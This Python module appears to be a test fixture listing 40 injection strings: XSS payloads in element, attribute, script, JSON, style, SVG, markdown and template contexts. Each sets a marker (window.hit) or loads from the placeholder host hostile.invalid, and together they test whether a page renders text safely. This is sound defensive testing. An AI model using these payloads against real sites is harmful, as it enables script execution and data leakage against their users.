"""40 strings that would run or load something if a page took them for more than text.

Each sets `window.hit`, opens a dialog or asks the network for something, by one way out of the places where a page puts
text: an element, an attribute, a script's string or JSON, a style, SVG, a link, a template, a label of a figure.
"""

from __future__ import annotations

INJECTIONS = (
    # elements
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</ScRiPt>",
    "<script src=//hostile.invalid/a.js></script>",
    "<script type=module>window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<img src=x onerror=window.hit=1>",
    '<img src="http://hostile.invalid/a.png">',
    "<image href=http://hostile.invalid/a.png>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<object data=http://hostile.invalid/a></object>",
    "<embed src=http://hostile.invalid/a>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<body onload=window.hit=1>",
    "<base href=http://hostile.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
    "<link rel=stylesheet href=http://hostile.invalid/a.css>",
    "<form action=http://hostile.invalid/><button autofocus>x</button></form>",
    # attributes
    '"><script>window.hit=1</script>',
    "'><img src=x onerror=window.hit=1>",
    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1" x="',
    "' onfocus='window.hit=1' autofocus tabindex=0 x='",
    "x` onerror=`window.hit=1",
    # scripts and JSON
    '";window.hit=1;//',
    "';window.hit=1;//",
    '\\";window.hit=1;//',
    "\u2028window.hit=1//\u2029",
    "--></script><!--<script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    # styles
    "</style><script>window.hit=1</script>",
    "<style>@import 'http://hostile.invalid/a.css';*{background:url(http://hostile.invalid/b.png)}</style>",
    # SVG and labels of figures, some of which take links and line breaks
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror=window.hit=1></foreignObject></svg>",
    '<a href="javascript:window.hit=1" target="_self">x</a><br><b onclick="window.hit=1">y</b>',
    # Markdown and templates
    "[x](javascript:window.hit=1) ![x](http://hostile.invalid/a.png)",
    "{{ ''.__class__ }}${window.hit=1}{% raw %}<%= window.hit=1 %>",
)
